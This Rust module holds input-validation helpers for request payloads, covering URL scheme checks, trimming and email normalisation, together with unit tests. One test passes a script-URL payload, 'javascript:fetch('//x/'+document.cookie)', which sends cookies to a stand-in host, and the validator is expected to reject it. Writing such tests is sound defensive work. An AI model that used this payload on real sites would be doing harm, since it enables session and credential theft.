//! Rules shared across request payloads.

use serde::{Deserialize, Deserializer};
use validator::ValidationError;

/// Attachment links are rendered as clickable anchors, so only web schemes
/// are accepted. `#[validate(url)]` checks the rest of the shape.
pub fn validate_web_url(url: &str) -> Result<(), ValidationError> {
    let scheme = url
        .split_once(':')
        .map(|(scheme, _)| scheme.to_ascii_lowercase())
        .unwrap_or_default();
    if scheme == "http" || scheme == "https" {
        Ok(())
    } else {
        Err(ValidationError::new("url_scheme_not_allowed"))
    }
}

/// Deserializes a string with surrounding whitespace removed, so length rules
/// see the value that will be stored.
pub fn trimmed<'de, D>(deserializer: D) -> Result<String, D::Error>
where
    D: Deserializer<'de>,
{
    let value = String::deserialize(deserializer)?;
    Ok(value.trim().to_string())
}

/// Emails keep the case they were submitted with; lookups and the unique
/// index compare them case-insensitively.
pub fn normalize_email(email: &str) -> String {
    email.trim().to_string()
}

/// Trims free text and turns blank input into `None`.
pub fn normalize_optional_text(value: Option<String>) -> Option<String> {
    value
        .map(|text| text.trim().to_string())
        .filter(|text| !text.is_empty())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn email_is_trimmed_but_keeps_its_case() {
        assert_eq!(normalize_email("  Ana@Example.EDU "), "Ana@Example.EDU");
    }

    #[test]
    fn blank_text_becomes_none() {
        assert_eq!(normalize_optional_text(Some("   ".into())), None);
        assert_eq!(normalize_optional_text(None), None);
        assert_eq!(
            normalize_optional_text(Some(" fixed ".into())).as_deref(),
            Some("fixed")
        );
    }

    #[test]
    fn web_url_accepts_http_and_https() {
        assert!(validate_web_url("https://files.example.edu/a.pdf").is_ok());
        assert!(validate_web_url("HTTP://files.example.edu/a.pdf").is_ok());
    }

    #[test]
    fn web_url_rejects_script_and_data_schemes() {
        assert!(validate_web_url("javascript:fetch('//x/'+document.cookie)").is_err());
        assert!(validate_web_url("JavaScript:alert(1)").is_err());
        assert!(validate_web_url("data:text/html;base64,PHNjcmlwdD4=").is_err());
        assert!(validate_web_url("files.example.edu/a.pdf").is_err());
    }

    #[test]
    fn trimmed_strips_padding_before_validation() {
        #[derive(Deserialize)]
        struct Payload {
            #[serde(deserialize_with = "trimmed")]
            title: String,
        }
        let payload: Payload = serde_json::from_str(r#"{"title":"  ab  "}"#).unwrap();
        assert_eq!(payload.title, "ab");
    }
}
